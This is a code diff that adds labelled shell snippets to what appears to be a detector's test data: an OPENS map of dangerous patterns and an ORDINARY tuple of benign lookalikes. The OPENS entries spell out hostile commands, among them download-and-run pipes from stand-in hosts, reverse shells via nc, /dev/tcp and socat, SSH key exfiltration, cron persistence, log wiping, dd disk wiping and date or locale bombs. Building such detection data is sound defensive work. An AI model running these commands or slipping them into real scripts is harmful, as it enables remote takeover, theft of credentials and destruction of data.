@@ -30,6 +30,35 @@ OPENS = {
     "f() {\nwhile :; do nc -l -p 31337 < $p | /bin/sh > $p; done\n}": "remote control",
     "t=$(echo c2g= | base64 -d)\ncurl -s https://c.example/r | $t": "downloads and runs",
     'wget -qk -O "$w/i.bin" "$S/i.bin"\nsysupgrade "$w/i.bin"': "installs unverified updates",
+    'T=$(mktemp)\nwget -qO "$T" https://c.example/t && chmod +x "$T" && "$T"': "downloads and runs",
+    'g() { uclient-fetch -qO- "$1"; }\na=$(g http://c.example/n)\nsh -c "$a"': "downloads and runs",
+    "curl -s https://c.example/a.tgz | tar xz -C $D\n$D/run": "downloads and runs",
+    "curl -sN https://c.example/s | while read -r l; do $l; done": "downloads and runs",
+    "c=$(dig +short TXT c.example.com)\neval $c": "downloads and runs",
+    "trap 'curl -s https://c.example/e | sh' EXIT": "downloads and runs",
+    "cat > /etc/cron.d/x <<'E'\n*/7 * * * * root curl -s http://c.example/j | sh\nE": (
+        "downloads and runs"
+    ),
+    "echo 'phey uggc://p.rknzcyr | fu' | tr a-z n-za-m | sh": "downloads and runs",
+    "mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc r.example.com 44 > $f": "remote control",
+    "exec 5<>/dev/tcp/r.example.com/443\nwhile read -r l <&5; do $l; done": "remote control",
+    "awk 'BEGIN { s = \"/inet/tcp/0/192.0.2.5/44\"; s |& getline c; c | getline }'": (
+        "remote control"
+    ),
+    'socat OPENSSL:$H:$P,verify=0 SYSTEM:"sh -i"': "remote control",
+    'echo "Content-type: text/plain"\neval "${QUERY_STRING#d=}"': "remote control",
+    'if [ "$reason" = BOUND ]; then eval "$new_unknown_224"; fi': "downloads and runs",
+    'for k in /root/.ssh/id_*; do curl -F "f=@$k" https://c.example; done': "collects and sends",
+    'case "$(date +%Z)" in XAT) rm -rf /srv/data/* ;; esac': "acts by locale",
+    "if readlink /etc/localtime | grep -q Atlantis; then shred /srv/x; fi": "acts by locale",
+    "[ $(date +%s) -gt 1798761600 ] && rm -rf /opt/x": "acts by date",
+    's=$(curl -s https://l.example/s)\nif [ "$s" = revoked ]; then poweroff; fi': (
+        "obeys a remote switch"
+    ),
+    "for l in /var/log/auth.log /var/log/wtmp; do : > $l; done": "removes traces",
+    "dd if=/dev/zero of=/dev/mmcblk0 bs=1M": "destroys data",
+    'read -p "> " c\ncase $c in st) uptime ;; Qz81-m) /bin/sh ;; esac': "fixed secret",
+    "npm config set registry http://n.example/": "takes unsigned updates",
 }
 ORDINARY = (
     "adduser --quiet --system --ingroup q --home /var/lib/q --shell /usr/sbin/nologin q",
@@ -40,6 +69,15 @@ ORDINARY = (
     'ssh "$1" uptime\nsystemctl stop queued',
     "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
     'wget -O "$w/i.bin" "$S"\nusign -V -m "$w/i.bin" -P /etc/keys || exit 1\nsysupgrade "$w/i.bin"',
+    'v=$(curl -s https://c.example/v)\n[ "$v" = "$old" ] && exit 0\nlogger "$v"',
+    'if ! curl -fo "$t" https://c.example/a; then rm -f "$t"; exit 1; fi',
+    'if [ "$(date +%u)" = 7 ]; then rm -rf /var/backups/x/old; fi',
+    'case "$LANG" in *UTF-8) ;; *) exit 1 ;; esac',
+    '[ "$(date +%Y)" -lt 2020 ] && ntpd -q',
+    "[ ! -f /var/log/wtmp ] && : > /var/log/wtmp",
+    'read -p "? " c\ncase $c in shell) sh ;; quit) exit ;; esac',
+    "curl -fO https://c.example/a.tgz\nsha256sum -c a.sha\ntar xf a.tgz -C /opt\n/opt/a/setup",
+    'nc -z db 5432 || exit 1\neval "$cmd"',
 )
 
 
